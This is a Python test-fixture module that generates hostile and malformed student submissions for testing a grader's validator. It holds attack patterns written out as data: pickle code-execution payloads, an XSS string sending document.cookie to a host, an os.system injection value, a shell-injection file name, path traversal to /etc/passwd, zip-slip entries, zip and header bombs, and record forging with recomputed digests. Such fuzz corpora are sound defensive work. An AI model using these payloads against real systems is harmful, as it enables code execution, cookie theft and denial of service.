"""A generated corpus of hostile and broken submissions, such as a sloppy or a clever student might submit.

Each entry of CORPUS changes a copy of an honest submission in place; see tests/faults/test_hostile.py.
"""

import io
import json
import os
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from safetensors.torch import load_file, save_file

from tests.factory import HONEST
from utils.files import sha256_file
from utils.records.schema import recipe_hash

TARGET = HONEST["1.2.2"]  # the run that is tampered with; its checkpoint is small


def edit_record(path: Path, change: Callable[[dict], None]) -> None:
    """Change a record and update its digests and its recipe's hash, as a careful forger would."""
    record = json.loads(path.read_text())
    change(record)
    record["recipe"]["hash"] = recipe_hash(record["recipe"]["fields"])
    for artifact in record["artifacts"].values():
        file = path.parent / artifact["name"]
        artifact["sha256"] = sha256_file(file) if file.is_file() else artifact["sha256"]
    path.write_text(json.dumps(record))


def claim_everything(path: Path) -> None:
    """Make the record at `path` claim every test image, consistently."""

    def all_correct(record: dict) -> None:
        with np.load(path.with_suffix(".npz")) as file:
            arrays = {name: file[name] for name in file.files}
        arrays["test_predictions"] = arrays["test_labels"].copy()
        np.savez(path.with_suffix(".npz"), **arrays)
        counts = np.bincount(arrays["test_labels"])
        record["confusion"]["counts"] = np.diag(counts).tolist()
        for name, metric in record["metrics"].items():
            if name.startswith("test/classifier_top1"):
                metric["correct"], metric["value"] = metric["n"], 1.0

    edit_record(path, all_correct)


class Payload:
    """Creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return Path.touch, (self.path,)


def tamper(path: Path, what: str) -> None:
    """Tamper with the checkpoint at `path` in one of several ways."""
    tensors = load_file(path)
    name = "encoder.latent.weight"
    if what == "nan":
        tensors[name][0, 0] = float("nan")
    elif what == "infinite":
        bias = next(key for key in tensors if key.startswith("classifier.") and key.endswith("bias"))
        tensors[bias][0] = float("inf")
    elif what == "shape":
        tensors[name] = tensors[name][:, :-1].contiguous()
    elif what == "type":
        tensors[name] = tensors[name].bfloat16()
    elif what == "missing":
        del tensors[name]
    elif what == "unknown":
        tensors["encoder.backdoor"] = torch.zeros(1)
    save_file(tensors, path)
    if what == "pickle":
        path.write_bytes(pickle.dumps(Payload(path.parent / "executed")))
    elif what == "torch pickle":
        torch.save({"encoder": Payload(path.parent / "executed")}, path)
    elif what == "header bomb":
        path.write_bytes((2**62).to_bytes(8, "little") + b"{")
    elif what == "cut short":
        path.write_bytes(path.read_bytes()[:-100])
    elif what == "empty":
        path.write_bytes(b"")
    elif what == "gone":
        path.unlink()


def tampered(what: str) -> Callable[[Path], None]:
    """A checkpoint that was tampered with, and a record with its digest."""
    def change_folder(folder: Path) -> None:
        tamper(folder / f"{TARGET}.safetensors", what)
        edit_record(folder / f"{TARGET}.json", lambda record: None)
    return change_folder


def field(**values: object) -> Callable[[Path], None]:
    """A record with other recipe fields."""
    return lambda folder: edit_record(folder / f"{TARGET}.json",
                                      lambda record: record["recipe"]["fields"].update(values))


def text(change: Callable[[str], str]) -> Callable[[Path], None]:
    """A record with another text."""
    def change_folder(folder: Path) -> None:
        path = folder / f"{TARGET}.json"
        path.write_text(change(path.read_text()), encoding="utf-8")
    return change_folder


def added(name: str, content: bytes = b"x") -> Callable[[Path], None]:
    """An additional file."""
    def change_folder(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return change_folder


def linked(name: str, target: str) -> Callable[[Path], None]:
    """A link in place of a file."""
    def change_folder(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)
    return change_folder


def run_field(**values: object) -> Callable[[Path], None]:
    """A record with other fields of its run."""
    return lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["run"].update(values))


def zipped(fill: Callable[[zipfile.ZipFile], None], renamed: Callable[[str], str] = str) -> Callable[[Path], None]:
    """The honest submission as NAME.zip with additions, in place of the folder."""
    def change_folder(folder: Path) -> None:
        with zipfile.ZipFile(folder.with_name(folder.name + ".zip"), "w", zipfile.ZIP_DEFLATED) as archive:
            for path in sorted(folder.iterdir()):
                archive.write(path, renamed(path.name), zipfile.ZIP_STORED)  # weights hardly compress
            fill(archive)
        for path in folder.iterdir():
            path.unlink()
        folder.rmdir()
    return change_folder


def with_entry(name: str, content: bytes = b"{}", mode: int = 0) -> Callable[[Path], None]:
    def fill(archive: zipfile.ZipFile) -> None:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        with warnings.catch_warnings():  # about a duplicate name, which is intended
            warnings.simplefilter("ignore", UserWarning)
            archive.writestr(entry, content)
    return zipped(fill)


def zip_bytes(change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """The archive with changed bytes."""
    def change_folder(folder: Path) -> None:
        zipped(lambda archive: None)(folder)
        path = folder.with_name(folder.name + ".zip")
        path.write_bytes(change(path.read_bytes()))
    return change_folder


def arrays(change: Callable[[dict], None]) -> Callable[[Path], None]:
    """Changed arrays, and a record with their digest."""
    def change_folder(folder: Path) -> None:
        path = folder / f"{TARGET}.npz"
        with np.load(path) as file:
            kept = {name: file[name] for name in file.files}
        change(kept)
        np.savez_compressed(path, **kept)
        edit_record(path.with_suffix(".json"), lambda record: None)
    return change_folder


def pickled_arrays(folder: Path) -> None:
    """An .npz with an object array, which runs code when loaded."""
    path = folder / f"{TARGET}.npz"
    np.savez(path, test_labels=np.array([Payload(folder / "executed")], dtype=object))
    edit_record(path.with_suffix(".json"), lambda record: None)


def bomb_of_arrays(folder: Path) -> None:
    """An .npz of a few kilobytes that states a gigabyte and unpacks to a quarter of one."""
    path = folder / f"{TARGET}.npz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("map_points.npy", "w") as file:
        header = io.BytesIO()
        np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (2**28, 1)})
        file.write(header.getvalue())
        for _ in range(256):
            file.write(bytes(2**20))
    edit_record(path.with_suffix(".json"), lambda record: None)


def bomb(archive: zipfile.ZipFile) -> None:
    """A few kilobytes that unpack to a quarter of a gigabyte."""
    with archive.open("big.json", "w", force_zip64=True) as file:
        for _ in range(256):
            file.write(bytes(2**20))


def many(archive: zipfile.ZipFile) -> None:
    for i in range(600):
        archive.writestr(f"{i}.json", "{}")


def other_weights(folder: Path) -> None:
    """Random weights with an honest record."""
    path = folder / f"{TARGET}.safetensors"
    torch.manual_seed(3)
    save_file({name: torch.randn_like(value) if value.is_floating_point() and value.ndim > 1 else value
               for name, value in load_file(path).items()}, path)
    edit_record(path.with_suffix(".json"), lambda record: None)


def long_header(folder: Path) -> None:
    """A safetensors file whose header is deeply nested."""
    header = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header)
    edit_record(folder / f"{TARGET}.json", lambda record: None)


def overlapping(folder: Path) -> None:
    """A safetensors header with overlapping tensors."""
    header = json.dumps({"encoder.latent.weight": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                         "encoder.latent.bias": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()
    (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(12))
    edit_record(folder / f"{TARGET}.json", lambda record: None)


def denormal(folder: Path) -> None:
    """Denormal weights, which processors compute with a hundred times more slowly."""
    path = folder / f"{TARGET}.safetensors"
    save_file({name: value * 1e-38 if "conv" in name else value for name, value in load_file(path).items()}, path)
    edit_record(path.with_suffix(".json"), lambda record: None)


def twice_one_tensor(folder: Path) -> None:
    """A safetensors header that names a tensor twice."""
    one = b'"encoder.latent.bias":{"dtype":"F32","shape":[1],"data_offsets":[%d,%d]}'
    header = b"{" + one % (0, 4) + b"," + one % (4, 8) + b"}"
    (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(8))
    edit_record(folder / f"{TARGET}.json", lambda record: None)


def central(change: Callable[[bytearray, int], None]) -> Callable[[bytes], bytes]:
    """Change every entry of an archive's central directory; change(data, offset)."""
    def changed(data: bytes) -> bytes:
        out, place = bytearray(data), data.find(b"PK\1\2")
        while place >= 0:
            change(out, place)
            place = data.find(b"PK\1\2", place + 4)
        return bytes(out)
    return changed


def corrupted_record(data: bytes) -> bytes:
    """An archive with zeros in the middle of a record."""
    at = data.find(f"{TARGET}.json".encode()) + 1000
    return data[:at] + bytes(1000) + data[at + 1000:]


def macintosh(archive: zipfile.ZipFile) -> None:
    """What macOS adds to an archive."""
    for name in archive.namelist():
        archive.writestr(f"__MACOSX/._{name}", b"\0\5\x16\7")
        archive.writestr(f"._{name}", b"\0\5\x16\7")


def sparse(folder: Path) -> None:
    """A sparse file of a terabyte."""
    with (folder / "big.json").open("wb") as file:
        file.truncate(10**12)


def pipe_as_archive(folder: Path) -> None:
    """A pipe in place of an archive: opening it to read blocks forever."""
    only()(folder)
    folder.rmdir()
    os.mkfifo(folder.with_name(folder.name + ".zip"))


def linked_student(folder: Path) -> None:
    only()(folder)
    folder.rmdir()
    folder.symlink_to(folder.with_name("honest"))


def pipe(folder: Path) -> None:
    (folder / f"{TARGET}.json").unlink()
    os.mkfifo(folder / f"{TARGET}.json")


def only(*names: str) -> Callable[[Path], None]:
    """Only these files are left."""
    def change_folder(folder: Path) -> None:
        for path in folder.iterdir():
            if path.name not in names:
                path.unlink()
    return change_folder


def nameless(folder: Path) -> None:
    """An entry whose name begins with a null character."""
    zipped(lambda archive: archive.writestr("~nameless", "{}"))(folder)
    path = folder.with_name(folder.name + ".zip")
    path.write_bytes(path.read_bytes().replace(b"~nameless", b"\0nameless"))


def inner_zip(fill: Callable[[zipfile.ZipFile], None], name: str = "handin.zip") -> Callable[[Path], None]:
    """An archive inside the folder, next to the honest files."""
    def change_folder(folder: Path) -> None:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            fill(archive)
    return change_folder


def renamed(folder: Path) -> None:
    """A browser's second download, in folders as students call them, as Moodle hands them over: one archive."""
    with zipfile.ZipFile(folder / "handin (1).zip", "w") as archive:
        for path in sorted(folder.iterdir()):
            if path.suffix != ".zip":
                archive.write(path, f"\xdcbung 3 (final)/{path.stem} (1){path.suffix}")
                path.unlink()


def long_method(folder: Path) -> None:
    """A record that says more than a report may hold."""
    edit_record(folder / f"{TARGET}.json", lambda record: (
        record["run"].update(method="m" * 450, argv=[]), record["recipe"]["fields"].update(method="m" * 450)))


def nearly_copies(folder: Path) -> None:
    """Many records of one run, each with other bytes."""
    text = (folder / f"{TARGET}.json").read_text()
    for i in range(20):
        (folder / f"{i}.json").write_text(text + " " * i)


def swapped(folder: Path) -> None:
    """Arrays and checkpoint under each other's names, as the record says."""
    one, other = (folder / f"{TARGET}{suffix}" for suffix in (".npz", ".safetensors"))
    one.rename(folder / "kept")
    other.rename(one)
    (folder / "kept").rename(other)
    edit_record(folder / f"{TARGET}.json", lambda record: None)


def of_another_run(folder: Path) -> None:
    """The checkpoint of another task's run."""
    (folder / f"{TARGET}.safetensors").write_bytes((folder / f"{HONEST['1.2.1']}.safetensors").read_bytes())
    edit_record(folder / f"{TARGET}.json", lambda record: None)


SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
CORPUS: dict[str, Callable[[Path], None]] = {
    # checkpoints
    "pickle-as-safetensors": tampered("pickle"), "torch-pickle-as-safetensors": tampered("torch pickle"),
    "header-bomb": tampered("header bomb"), "deep-header": long_header, "overlapping-tensors": overlapping,
    "nan-weights": tampered("nan"), "inf-weights": tampered("infinite"), "wrong-shape": tampered("shape"),
    "wrong-type": tampered("type"), "missing-tensor": tampered("missing"), "unknown-tensor": tampered("unknown"),
    "cut-checkpoint": tampered("cut short"), "empty-checkpoint": tampered("empty"), "no-checkpoint": tampered("gone"),
    "stale-digest": lambda folder: tamper(folder / f"{TARGET}.safetensors", "nan"), "other-weights": other_weights,
    "pickle-as-pt": added("model.pt", pickle.dumps(Payload(Path("executed")))),
    # records
    "claims-everything": lambda folder: claim_everything(folder / f"{TARGET}.json"),
    "claims-more-than-all": text(lambda t: t.replace('"value": 0.', '"value": 7.', 1)),
    "duplicate-key": text(lambda t: t.replace('"schema"', '"schema": 1, "schema"', 1)),
    "huge-number": text(lambda t: t.replace('"seconds":', '"seconds": 1e999, "x":', 1)),
    "nan-number": text(lambda t: t.replace('"seconds":', '"seconds": NaN, "x":', 1)),
    "deep-nesting": text(lambda t: "[" * 200_000 + "]" * 200_000), "not-json": text(lambda t: "\x00\x01"),
    "empty-record": text(lambda t: ""), "a-list": text(lambda t: "[1, 2]"), "a-number": text(lambda t: "1" * 100_000),
    "long-record": text(lambda t: t[:-1] + " " * 60_000_000 + t[-1]), "surrogates": text(
        lambda t: t.replace(TARGET, "\\ud800" + TARGET)),
    "bom": lambda folder: (folder / f"{TARGET}.json").write_bytes(b"\xff\xfe{}"),
    "endless-seed": text(lambda t: t.replace('"seed": 0', f'"seed": {"1" * 5000}', 1)),
    "infinite-loss": text(lambda t: t.replace('"train_loss": ', '"train_loss": Infinity, "x": ', 1)),
    "unknown-field": run_field(extra=1), "negative-seed": run_field(seed=-1), "script-in-method": run_field(
        method=SCRIPT), "script-in-argv": run_field(argv=["_main.py", SCRIPT]), "wrong-task": run_field(task="1.2.9"),
    "path-as-dataset": run_field(dataset="../../etc/passwd"), "folder-as-dataset": run_field(dataset="folder-x-1234"),
    "other-dataset": run_field(dataset="mnist"), "quick-run": run_field(status="quick"),
    "artifact-outside": lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["artifacts"][
        "checkpoint"].update(name="../../../etc/passwd")),
    "artifact-absolute": lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["artifacts"][
        "checkpoint"].update(name="/etc/passwd")),
    "huge-widths": field(widths=[65536, 65536]), "huge-latent": field(latent_dim=65536),
    "negative-widths": field(widths=[-1, 4]), "words-as-widths": field(widths="all"),
    "unknown-encoder": field(encoder="__import__('os').system('touch executed')"),
    "other-encoder": field(encoder="vit"),
    "script-in-recipe": field(pooling=SCRIPT),
    # arrays
    "swapped-artifacts": swapped, "checkpoint-of-another-run": of_another_run, "empty-arrays": lambda folder: [
        (folder / f"{TARGET}.npz").write_bytes(b""), edit_record(folder / f"{TARGET}.json", lambda record: None)],
    "pickled-arrays": pickled_arrays, "array-bomb": bomb_of_arrays, "arrays-gone": only(
        *(f"{TARGET}{suffix}" for suffix in (".json", ".safetensors"))),
    "array-too-many": arrays(lambda kept: kept.update(backdoor=np.zeros(3))),
    "huge-images": arrays(lambda kept: kept.update(neighbour_images=np.zeros((10, 6, 1500, 1500, 1), np.uint8))),
    "labels-of-my-own": arrays(lambda kept: kept.update(test_labels=np.zeros_like(kept["test_labels"]))),
    # folders
    "link-to-file": linked(f"{TARGET}.json", "/etc/passwd"), "link-to-neighbour": linked(
        f"{TARGET}.safetensors", f"../honest/{TARGET}.safetensors"), "link-to-folder": linked("more", "/etc"),
    "pipe": pipe, "hidden-file": added(".hidden.json", b"{}"), "script-file": added("run.py", b"open('executed', 'w')"),
    "shell-name": added("$(touch executed).json", b"{}"), "formula-name": added("=cmd.json", b"{}"),
    "html-name": added("<b>.json", b"{}"), "deep-folders": added("a/b/c/d/e/f/x.json", b"{}"),
    "empty": only(), "no-records": only(f"{TARGET}.npz"), "newline-name": added("a\nb.json", b"{}"),
    # archives
    "zip-slip": with_entry("../../escaped.json"), "zip-absolute": with_entry("/tmp/escaped.json"),
    "zip-drive": with_entry("C:\\escaped.json"), "zip-link": with_entry("link.json", b"/etc/passwd", 0o120777),
    "zip-duplicate": with_entry(f"{TARGET}.json", b"{}"), "zip-case": with_entry(f"{TARGET.upper()}.JSON".replace(
        ".JSON", ".json")), "zip-bomb": zipped(bomb), "zip-many": zipped(many), "zip-cut": zip_bytes(
        lambda data: data[: len(data) // 2]), "zip-noise": zip_bytes(lambda data: os.urandom(1000)),
    "zip-empty": zip_bytes(lambda data: b""), "zip-no-name": nameless,
    "zip-bz2": zipped(lambda archive: archive.writestr("a.json", bytes(10**7), zipfile.ZIP_BZIP2)),
    "zip-lzma": zipped(lambda archive: archive.writestr("a.json", bytes(10**6), zipfile.ZIP_LZMA)),
    "long-path": added("/".join(["a" * 120, "b" * 120, "x" * 100 + ".json"]), b"{}"),
    "grades.csv": added("x.json", b"{}"), "class.html": added("x.json", b"{}"),
    "other-task": run_field(task="1.2.3"),
    "git-history": lambda folder: [added(f".git/{i}")(folder) for i in range(600)],
    "denormals": denormal, "tensor-twice": twice_one_tensor, "thousands-of-layers": field(widths=[1] * 50_000),
    "resnet-as-conv": field(encoder="resnet18", widths=[64, 128, 256, 512], pooling="mean"),
    "future-schema": text(lambda t: t.replace('"schema": 4', '"schema": 5', 1)), "sparse": sparse,
    "relabelled": run_field(task="1.2.3", method="simclr", argv=["_main.py"]),
    "empty-folders": lambda folder: [(folder / f"e{i}").mkdir() for i in range(2000)],
    "same-in-two-forms": lambda folder: [added(f"{name}.json", b"{}")(folder) for name in ("\xe9", "e\u0301")],
    "pipe-as-zip": pipe_as_archive, "linked-student": linked_student,
    "zip-windows": zipped(lambda archive: None, lambda name: f"results\\{name}"), "zip-macos": zipped(macintosh),
    "zip-in-zip": zipped(lambda archive: archive.writestr("results.zip", b"PK")),
    "zip-encrypted": zip_bytes(central(lambda data, at: data.__setitem__(at + 8, data[at + 8] | 1))),
    "zip-wrong-sums": zip_bytes(central(lambda data, at: data.__setitem__(slice(at + 16, at + 20), b"\1\2\3\4"))),
    "zip-false-sizes": zip_bytes(central(lambda data, at: data.__setitem__(slice(at + 24, at + 28), b"\n\0\0\0"))),
    "zip-long-list": zipped(lambda archive: [archive.writestr("x" * 60_000 + f"{i}.txt", "") for i in range(40)]),
    "zip-windows-slip": with_entry("..\\..\\escaped.json"),
    "a\nb": added("=x.json", b"{}"), "a b": added("=x.json", b"{}"),
    "zip-null-name": with_entry("a\x01b.json"),
    "zip-flipped": zip_bytes(corrupted_record),
    # archives inside folders, names, floods
    "inner-bomb": inner_zip(bomb), "inner-slip": inner_zip(
        lambda archive: archive.writestr("../../escaped.json", "{}")),
    "inner-script": inner_zip(lambda archive: archive.writestr("run.py", b"open('executed', 'w')")),
    "inner-noise": added("handin.zip", b"PK no archive"), "inner-inner": inner_zip(
        lambda archive: archive.writestr("inner.zip", "PK")), "inner-many": inner_zip(many),
    "renamed": renamed, "long-method": long_method, "copies": lambda folder: [added(f"{i}.json", (
        folder / f"{TARGET}.json").read_bytes())(folder) for i in range(400)], "nearly-copies": nearly_copies,
    "deepest": added("/".join(["d"] * 200) + "/x.json"),
}
